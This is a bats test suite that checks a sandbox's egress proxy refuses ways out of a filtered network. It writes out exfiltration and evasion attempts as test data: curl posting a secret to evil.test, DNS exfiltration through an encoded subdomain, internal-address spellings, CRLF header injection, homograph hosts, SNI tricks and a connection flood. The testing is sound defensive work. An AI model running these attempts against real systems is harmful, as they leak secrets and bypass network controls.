#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# A91–A121: ways out of a filtered network, tried inside the real sandbox. ok.test and *.wild.test are
# allowed; the canary (127.0.0.6 and 127.0.0.1, port $CANARY) must see nobody. proxy.bats has what is
# about the proxy alone (A119: floods).
# Text for the shell inside stands in single quotes.
# shellcheck disable=SC2016,SC2154
load ../lib/filtered

# say PORT BYTES…: from inside, to the proxy.
say() {
    netbox -- /usr/bin/python3 "$ABX_SOURCE/tests/lib/proxy_peers.py" say "$@"
}

# socks5_code TARGET: what the proxy answers to a request for it (type, address) and the canary's port.
socks5_code() {
    say 1080 '\x05\x01\x00' "\x05\x01\x00$1\x$(printf %02x $((CANARY / 256)))\x$(printf %02x $((CANARY % 256)))" |
        xxd -p | cut -c 7-8
}

# refused_by_us URL…: plain, as a tunnel, and through SOCKS5 with the name. A name must be refused for what it is,
# not for where it leads.
refused_by_us() {
    local url
    for url in "$@"; do
        run netbox -- curl -sS --max-time 5 "$url"
        [[ $output == *"not allowed"* || ($url == http://127.* && $output == *"internal address"*) ]]
        run netbox -- curl -sS --max-time 5 -p "$url"
        [ "$status" -ne 0 ]
        run netbox -- curl -sS --max-time 5 -x socks5h://127.0.0.1:1080 "$url"
        [ "$status" -ne 0 ]
    done
}

@test "A91 around the proxy there is no way" {
    local to
    run netbox -- curl -sS --max-time 5 --noproxy '*' "http://127.0.0.6:$CANARY/"
    [ "$status" -ne 0 ]
    run netbox -- curl -sS --max-time 5 --noproxy '*' "http://evil.test:$CANARY/"
    [ "$status" -ne 0 ]
    OPTIONS+=("${ALLOW[@]}")
    for to in 127.0.0.6 127.0.0.1 127.0.0.5 ::ffff:127.0.0.6 0.0.0.0; do
        refused 'ENETUNREACH|ECONNREFUSED|EHOSTUNREACH|EADDRNOTAVAIL' inet tcp "$to" "$CANARY"
        refused 'ENETUNREACH|ECONNREFUSED|EHOSTUNREACH|EADDRNOTAVAIL' inet tcp "$to" 80
    done
    nobody_reached
}

@test "A92 A97 only what is listed, at label boundaries" {
    refused_by_us "http://evil.test:$CANARY/?x=secret" "http://evilok.test:$CANARY/" \
        "http://ok.test.evil.test:$CANARY/" "http://wild.test:$CANARY/" "http://test:$CANARY/"
    [ "$(netbox -- curl -sS http://a.b.wild.test/hello)" = hello ]
    # Nor where the address would be.
    ALLOW+=(--allow-domain 127.0.0.6)
    refused_by_us "http://evil.test:$CANARY/" "http://wild.test:$CANARY/"
    nobody_reached
}

@test "A93 an empty list allows nothing" {
    ALLOW=()
    refused_by_us http://ok.test/hello "http://127.0.0.5/hello"
    [ ! -s "$NET/log" ]
    nobody_reached
}

@test "A94 A95 hosts that are none" {
    [[ $(say 1080 '\x05\x01\x00' '\x05\x01\x00\x03\x14evil.test\x00.wild.test\x00\x50' | xxd -p) =~ ^050005(01|02|04|08) ]]
    local host
    for host in 'evil.test%00.wild.test' 'evil.test%2ewild.test' 'ev il.test' 'evil_x.wild.test' 'a..wild.test' \
        'evil.test\r\nX: ok.test' 'evil.test\t.ok.test' "$(printf 'a%.0s' {1..256}).ok.test" 'user@ok.test'; do
        run say 3128 "CONNECT $host:$CANARY HTTP/1.1\r\n\r\n"
        [[ $output == *" 400 "* || $output == *" 403 "* ]]
    done
    # No name at all; one that only looks like ours.
    for host in '' 'оk.test' 'ok。test' 'xn--k-jra.test'; do
        run say 3128 "CONNECT $host:$CANARY HTTP/1.1\r\n\r\n"
        [[ $output == *" 400 "* || $output == *" 403 "* ]]
        run say 3128 "GET http://$host:$CANARY/ HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"
        [[ $output == *" 400 "* || $output == *" 403 "* ]]
    done
    [[ $(say 1080 '\x05\x01\x00' '\x05\x01\x00\x03\x00\x00\x50' | xxd -p) =~ ^050005(01|02|04|08) ]]
    [ ! -s "$NET/dns" ]
    nobody_reached
}

@test "A96 case and a dot at the end change nothing" {
    [ "$(netbox -- curl -sS http://OK.TEST./hello)" = hello ]
    refused_by_us "http://EVIL.test.:$CANARY/"
    nobody_reached
}

@test "A99 another server name than the one that was asked for" {
    run netbox -- openssl s_client -proxy 127.0.0.1:3128 -connect ok.test:443 -servername evil.test </dev/null
    [[ $output != *"CN = ok.test"* ]]
    run netbox -- openssl s_client -proxy 127.0.0.1:3128 -connect ok.test:443 -noservername </dev/null
    [[ $output != *"CN = ok.test"* ]]
    run netbox --set network.allowTlsWithoutName=true -- openssl s_client -proxy 127.0.0.1:3128 -connect ok.test:443 -noservername </dev/null
    [[ $output == *"CN = ok.test"* ]]
}

@test "A99 variant: something in front of the greeting does not hide it" {
    local first
    # An alert, change_cipher_spec, and a greeting of SSL 2, which has no name; the same, and a greeting, with a
    # version that some servers do not look at. `say` pauses after the request.
    for first in '\x15\x03\x01\x00\x02\x01\x5a' '\x14\x03\x01\x00\x01\x01' '\x80\x2e\x01\x03\x01' \
        '\x15\x02\x00\x00\x02\x01\x5a' '\x14\xff\xff\x00\x01\x01' '\x16\x00\x00\x00\x00\x16' \
        '\x16\x02\x00\x00\x40\x01' '\x16\xff\xff\x02\x00\x01'; do
        [[ $(say 3128 'CONNECT ok.test:443 HTTP/1.1\r\n\r\n' "$first" | xxd -p | tr -d '\n') == *15030300020270* ]]
    done
}

@test "A101 documented: another host's name inside the encrypted request" {
    # The server that was allowed answers; nobody else is reached.
    [ "$(netbox -- curl -sSk -H "Host: evil.test:$CANARY" https://ok.test/hello)" = hello ]
    grep -q "GET /hello evil.test:$CANARY" "$NET/log"
    nobody_reached
    grep -q 'can be asked' "$ABX_SOURCE/docs/threat-model.md"
}

@test "A102 A107 every request of a connection, a redirect's too" {
    run say 3128 "GET http://ok.test/hello HTTP/1.1\r\nHost: x\r\n\r\nGET http://evil.test:$CANARY/ HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"
    [[ $output == *"200 OK"*hello*" 403 "*"not allowed"* ]]
    run netbox -- curl -sSL http://ok.test/redirect
    [[ $output == *"not allowed"* ]]
    nobody_reached
}

@test "A104 every spelling of an internal address" {
    local host
    for host in 2130706433 0x7f.1 0177.0.0.1 127.1 0 '[::ffff:127.0.0.1]' '[::]' '[64:ff9b::7f00:1]' '[::1]' 127.0.0.6; do
        run say 3128 "CONNECT $host:$CANARY HTTP/1.1\r\n\r\n"
        [[ $output == *" 403 "*"internal address"* ]]
        run say 3128 "GET http://$host:$CANARY/ HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n"
        [[ $output == *" 403 "*"internal address"* ]]
    done
    # The same through SOCKS5: as a name, as an address of both families.
    for host in '\x03\x0a2130706433' '\x03\x060x7f.1' '\x03\x05127.1' '\x01\x7f\x00\x00\x06' '\x01\x00\x00\x00\x00' \
        '\x04\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xff\x7f\x00\x00\x06' \
        '\x04\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01'; do
        [ "$(socks5_code "$host")" = 02 ]
    done
    nobody_reached
}

@test "A105 A106 what a name resolves to is judged: all of it, once" {
    ALLOW=(--allow-domain '*.dns.test' --allow-domain 127.0.0.5)
    [ "$(netbox -- curl -sS http://ok.dns.test/hello)" = hello ]
    local host
    for host in inside metadata metadata2 metadata6 lan mapped nat64 both mixed trap; do
        run netbox -- curl -sS --max-time 5 "http://$host.dns.test:$CANARY/"
        [[ $output == *"internal address"* ]]
        [ "$(socks5_code "\x03\x$(printf %02x $((${#host} + 9)))$host.dns.test")" = 02 ]
    done
    nobody_reached
}

@test "A106 variant: a name that answers with another address the second time" {
    ALLOW=(--allow-domain rebind.dns.test --allow-domain 127.0.0.5)
    # The first answer counts for a while; what is dialled is always an answer that was judged.
    run netinside 'curl -sS http://rebind.dns.test/hello
        until curl -sS "http://rebind.dns.test:'"$CANARY"'/" | tee last | grep -q internal; do sleep 0.1; done; cat last'
    [[ $output == hello*"internal address (127.0.0.1"* ]]
    nobody_reached
}

@test "A108 a port in a pattern is that port" {
    ALLOW=(--allow-domain ok.test:80 --allow-domain 127.0.0.5)
    [ "$(netbox -- curl -sS http://ok.test/hello)" = hello ]
    refused_by_us http://ok.test:22/ http://ok.test:25/ http://ok.test:443/
}

@test "A111 no name leaves the sandbox" {
    run netbox -c 'getent hosts c2VjcmV0.evil.dns.test; getent hosts ok.dns.test; curl -sS http://c2VjcmV0.evil.dns.test/'
    OPTIONS+=("${ALLOW[@]}")
    attempt inet udp 127.0.0.5 53
    attempt inet udp 127.0.0.6 53
    [ ! -s "$NET/dns" ]
    ALLOW+=(--allow-domain ok.dns.test)
    [ "$(netbox -- curl -sS http://ok.dns.test/hello)" = hello ]
    looked_up ok.dns.test
}

# Of whichever sandbox is under test.
NO_SOCKET='EPERM|EACCES|EPROTONOSUPPORT|ESOCKTNOSUPPORT|EAFNOSUPPORT'

@test "A112 no other protocol" {
    OPTIONS+=("${ALLOW[@]}")
    local kind protocol
    refused 'ENETUNREACH|ECONNREFUSED|EHOSTUNREACH|EADDRNOTAVAIL|EPERM|EINPROGRESS|EOPNOTSUPP' inet tfo 127.0.0.6 "$CANARY"
    # SCTP, MPTCP, SMC; as packets, too.
    for protocol in 132 262 256; do
        for kind in 1 5; do
            refused "$NO_SOCKET" sys socket 2 "$kind" "$protocol"
            refused "$NO_SOCKET" sys socket 10 "$kind" "$protocol"
        done
    done
    refused "$NO_SOCKET" sys socket 2 6 33   # DCCP
    refused "$NO_SOCKET" sys socket 2 2 136  # UDP-Lite
    refused "$NO_SOCKET" sys socket 2 2 1    # ping
    refused "$NO_SOCKET" sys socket 10 2 58
    refused "$NO_SOCKET" sys socket 2 3 1    # raw
    refused "$NO_SOCKET" sys socket 10 3 255
    refused "$NO_SOCKET" sys socket 2 10 768 # packets, by an old name
    nobody_reached
}

@test "A115 a relay inside changes no verdict" {
    run netinside 'python3=/usr/bin/python3; $python3 -c "
import socket, threading
def pump(a, b):
    while True:
        d = a.recv(4096)
        if not d: break
        b.sendall(d)
s = socket.create_server((\"127.0.0.1\", 9999)); open(\"up\", \"w\").close()
c, _ = s.accept(); u = socket.create_connection((\"127.0.0.1\", 3128))
threading.Thread(target=pump, args=(c, u), daemon=True).start(); pump(u, c)" &
        while [ ! -e up ]; do sleep 0.05; done; curl -sS -x http://127.0.0.1:9999 http://evil.test:'"$CANARY"'/'
    [[ $output == *"not allowed"* ]]
    nobody_reached
}

@test "A116 what listens inside is reached from nowhere else" {
    start_box "${ALLOW[@]}" -- /usr/bin/python3 -c '
import socket, time
s = socket.socket(); s.bind(("0.0.0.0", 21733)); s.listen()
open("up", "w").write("up\n"); time.sleep(600)'
    wait_for test -s "$W/up"
    [ "$(in_net "$PAYLOAD" inet tcp 127.0.0.1 21733)" = ECONNREFUSED ]
    [ "$("$PAYLOAD" inet tcp 127.0.0.1 21733)" = ECONNREFUSED ]
    # Nor are the proxy's own ports those of the host.
    [ "$(in_net "$PAYLOAD" inet tcp 127.0.0.1 3128)" = ECONNREFUSED ]
}

@test "A116 variant: the proxy's ports cannot be taken from it, nor its connections" {
    OPTIONS+=("${ALLOW[@]}")
    run netbox -- /usr/bin/python3 -c '
import socket, errno
for port in 3128, 1080:
    for host in "127.0.0.1", "0.0.0.0":
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        try:
            s.bind((host, port)); s.listen(); print("taken")
        except OSError as e:
            print(errno.errorcode[e.errno])'
    [[ $output != *taken* && ($output == *EADDRINUSE* || $output == *EACCES*) ]]
    # No descriptor of a listener, of the host or of the proxy is left inside.
    run netbox -c 'ls -l /proc/self/fd /proc/1/fd 2>&1'
    [[ $output != *socket:* ]]
}

@test "A117 credentials of the upstream proxy are not seen inside" {
    export AGENTBOX_UPSTREAM_AUTH=user:hidden-word
    AS=("${IN_NET[@]}" env AGENTBOX_UPSTREAM_AUTH="$AGENTBOX_UPSTREAM_AUTH" "${AS[@]:${#IN_NET[@]}}")
    run netbox --set "network.upstreamProxy=http://127.0.0.5:$UPSTREAM" --allow-domain far.test -c \
        'env; cat /proc/*/environ /proc/*/cmdline; curl -sSv http://far.test/x' </dev/null
    [[ $output != *hidden-word* ]]
    grep -q 'upstream GET http://far.test/x' "$NET/log"
    run bash -c "ps -eo args | grep -v grep | grep -c hidden-word"
    [ "$output" = 0 ]
}

@test "A118 A119 a run that floods its proxy does not hold up another" {
    start_box "${ALLOW[@]}" -- /usr/bin/python3 -c '
import socket, time
held = []
for i in range(600):
    s = socket.create_connection(("127.0.0.1", 3128)); s.send(b"GET http://ok.test/ HTTP/1.1\r\nX: "); held.append(s)
open("up", "w").close(); time.sleep(600)'
    wait_for test -e "$W/up"
    [ "$(netbox -- curl -sS http://ok.test/hello)" = hello ]
}

@test "A120 documented: an allowed host that stores what it is sent is a way out; another is not" {
    run netbox --env S="$SECRET" -c 'curl -sS -d "$S" http://ok.test/gist; curl -sS -d "$S" "http://evil.test:'"$CANARY"'/"'
    [[ $output == "got ${#SECRET} "*"not allowed"* ]]
    grep -q 'stores what anybody sends' "$ABX_SOURCE/docs/threat-model.md"
    nobody_reached
}

@test "A121 a client that knows no proxy fails at once, and is not let through" {
    run netbox -- env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY curl -sS --max-time 5 http://ok.test/hello
    [ "$status" -eq 6 ] || [ "$status" -eq 7 ]
    nobody_reached
}

@test "nothing inside can reach the proxy's process" {
    start_box "${ALLOW[@]}" -- sh -c 'curl -sS http://ok.test/hello >got; echo >up; sleep 60'
    wait_for test -e "$W/up"
    local pid
    pid=$(pgrep -P "$BOX_PID" -f 'agentbox net-role')
    grep -qx 'Seccomp:.2' "/proc/$pid/status"
    grep -qx 'NoNewPrivs:.1' "/proc/$pid/status"
    run inside "kill -0 $pid; cat /proc/$pid/cmdline; ls /proc"
    [[ $output != *net-role* ]]
}
